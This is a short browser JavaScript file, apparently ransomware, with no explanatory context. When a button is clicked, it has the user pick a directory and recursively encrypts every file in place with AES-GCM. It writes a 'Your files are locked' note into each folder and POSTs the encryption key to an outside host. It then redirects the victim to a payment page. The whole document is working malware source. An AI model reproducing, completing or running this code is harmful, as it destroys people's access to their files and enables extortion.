document.getElementById('start').onclick = async () => {
  const dir = await window.showDirectoryPicker({ mode: 'readwrite' });
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const who = Date.now();
  async function walk(d) {
    for await (const h of d.values()) {
      if (h.kind === 'directory') { await walk(h); continue; }
      const f = await h.getFile();
      const iv = crypto.getRandomValues(new Uint8Array(12));
      const enc = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, await f.arrayBuffer());
      const w = await h.createWritable();
      await w.write(iv);
      await w.write(enc);
      await w.close();
    }
    const note = await d.getFileHandle('READ_ME.txt', { create: true });
    const w = await note.createWritable();
    await w.write('Your files are locked. Id ' + who);
    await w.close();
  }
  await walk(dir);
  await fetch('https://k.rb-90.example/key/' + who, { method: 'POST', body: await crypto.subtle.exportKey('raw', key) });
  location.href = '/pay.html?id=' + who;
};
